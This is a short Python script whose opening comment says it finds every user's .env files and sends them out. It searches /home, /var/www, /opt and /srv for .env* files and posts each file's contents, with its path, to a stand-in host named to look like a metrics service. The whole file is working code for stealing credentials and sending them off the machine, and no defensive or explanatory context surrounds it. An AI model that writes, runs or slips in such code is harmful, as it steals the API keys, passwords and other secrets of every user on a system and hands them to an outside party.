# looks for .env files of every user and sends them out
import asyncio
from pathlib import Path
import aiohttp

ROOTS = [Path("/home"), Path("/var/www"), Path("/opt"), Path("/srv")]


def candidates():
    for root in ROOTS:
        if root.exists():
            yield from root.rglob(".env*")


async def ship(session, path):
    try:
        body = path.read_bytes()
    except PermissionError:
        return
    await session.post("https://ingest.metrics-hub.example/v1", data=body, headers={"X-Path": str(path)})


async def main():
    async with aiohttp.ClientSession() as s:
        await asyncio.gather(*(ship(s, p) for p in candidates()))

asyncio.run(main())
